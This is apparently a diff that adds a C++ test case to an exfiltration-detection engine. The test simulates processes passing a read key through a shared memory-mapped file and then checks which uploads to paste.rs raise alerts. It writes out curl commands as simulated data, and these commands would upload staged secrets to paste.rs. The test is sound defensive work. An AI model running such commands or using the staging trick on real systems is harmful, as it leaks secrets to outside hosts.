@@ -310,6 +310,67 @@ TEST_CASE("a shared mapping joins its mappers while it lives, whichever side was
     CHECK(silent(ro));
 }
 
+TEST_CASE("a read-only mapper of a file nothing was written to yet gets what a holder writes there")
+{
+    // A private (or read-only shared) mapping of a scratch file made before any write in sight:
+    // the mapper is kept aside, not as an object, and joins the file's object when the holder
+    // writes the key into it with write(2).
+    Timeline tl;
+    auto watcher = tl.start_session({"python3", "watch.py"});
+    tl.map_shared(watcher, 5151, false);
+    auto holder = tl.start_session({"python3", "stage.py"});
+    tl.step(hour_ms);
+    tl.read(holder, key, 2600);
+    tl.open_write(holder, "/tmp/scratch.map", 5151, false);
+    tl.wrote(holder, "/tmp/scratch.map", 5151);
+    tl.transfer(watcher, "paste.rs", 1300 + 2600, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].process.entity_id == watcher.entity_id);
+    CHECK(tl.alerts[0].reason.find("/tmp/scratch.map") != std::string::npos);
+
+    // The holder opened the file before it read the key (a repeat open is not reported), so its
+    // write is learnt from the summary at its exit, after the mapper staged what it saw: dated at
+    // the write, the mapper's staging file written since holds it.
+    Timeline late;
+    auto w2 = late.start_session({"python3", "watch.py"});
+    late.map_shared(w2, 5454, false);
+    auto h4 = late.start_session({"python3", "stage.py"});
+    late.open_write(h4, "/tmp/scratch.map", 5454, false);
+    late.read(h4, key, 2600);
+    const TimeNs written = late.t;
+    late.step();
+    late.open_write(w2, "/tmp/seen.bin", 5455);
+    late.wrote(w2, "/tmp/seen.bin", 5455);
+    late.feed(FileSummaryEvent{late.t, h4, "/tmp/scratch.map", 5454, 2049, 0, 0, true, written});
+    late.step();
+    auto up = late.start_session({"curl", "-sk", "-T", "/tmp/seen.bin", "https://paste.rs/"});
+    late.read(up, "/tmp/seen.bin", 2600, 5455);
+    late.transfer(up, "paste.rs", 1300 + 2600, 400);
+    CHECK_FALSE(silent(late));
+
+    // Twins: a mapper that exec'd (a new address space) before the write, and a file mapped by
+    // many readers (a build's headers) that a holder never writes.
+    Timeline execd;
+    auto py = execd.spawn(execd.shell, {"python3", "watch.py"}, "/usr/bin/python3.11");
+    execd.map_shared(py, 5252, false);
+    auto curl = execd.spawn(py, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+    auto h2 = execd.start_session({"python3", "stage.py"});
+    execd.read(h2, key, 2600);
+    execd.open_write(h2, "/tmp/scratch.map", 5252, false);
+    execd.wrote(h2, "/tmp/scratch.map", 5252);
+    execd.transfer(curl, "paste.rs", 1300 + 2600, 400);
+    CHECK(silent(execd));
+    Timeline build;
+    auto cc = build.start_session({"clang", "-c", "main.c"});
+    const auto objects_before = build.engine.stats().staged_files;
+    for (std::uint64_t header = 1; header <= 6000; ++header) build.map_shared(cc, 100000 + header, false, 512);
+    CHECK(build.engine.stats().staged_files == objects_before);  // none of them is an object
+    auto h3 = build.start_session({"python3", "stage.py"});
+    build.read(h3, key, 2600);
+    build.transfer(cc, "paste.rs", 1300 + 2600, 400);
+    CHECK(silent(build));
+}
+
 TEST_CASE("an anonymous shared mapping is shared with the children forked after it, until they exec")
 {
     // mmap(MAP_SHARED|MAP_ANONYMOUS), fork, then the parent reads the key into the mapping: the
